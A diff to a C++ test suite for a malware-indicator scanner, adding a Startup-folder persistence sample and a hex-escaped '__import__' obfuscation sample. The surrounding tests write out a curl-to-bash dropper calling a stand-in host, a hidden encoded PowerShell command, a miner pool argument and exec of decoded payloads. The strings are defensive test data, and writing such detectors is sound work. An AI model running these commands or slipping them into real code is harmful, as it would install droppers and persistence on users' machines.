@@ -131,6 +131,8 @@ TEST(IndicatorsTest, ShellsMinersPersistenceDroppers) {
   ExpectIndicator("'-o', 'stratum+tcp://pool:3333'", "indicator-miner");
   ExpectIndicator("key = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'",
                   "indicator-persistence");
+  ExpectIndicator("os.chdir(f'C:/Users/{u}/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup')",
+                  "indicator-persistence");
   ExpectIndicator("os.system('curl -s http://x.example/a.sh | bash')", "indicator-dropper");
   ExpectIndicator("powershell -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
                   "indicator-dropper");
@@ -154,7 +156,10 @@ TEST(IndicatorsTest, ConcealedPayloads) {
   ExpectIndicator("exec(base64.b64decode('cHJpbnQoMSk='))", "indicator-obfuscation");
   ExpectIndicator("exec(zlib.decompress(b'x'))", "indicator-obfuscation");
   ExpectIndicator("exec(marshal.loads(blob))", "indicator-obfuscation");
+  ExpectIndicator("getattr(m, '\\x5f\\x5f\\x69\\x6d\\x70\\x6f\\x72\\x74\\x5f\\x5f')",
+                  "indicator-obfuscation");  // '__import__' as hex escapes
   ExpectNoIndicator("data = base64.b64decode(s)\nexec_count = 1\n");
+  ExpectNoIndicator("MAGIC = b'\\x5f\\x5f\\x00\\x01\\xff'\nPAD = b'\\x66\\x66\\x66\\x66'\n");
 }
 
 TEST(IndicatorsTest, OrdinaryPackageTextIsQuiet) {
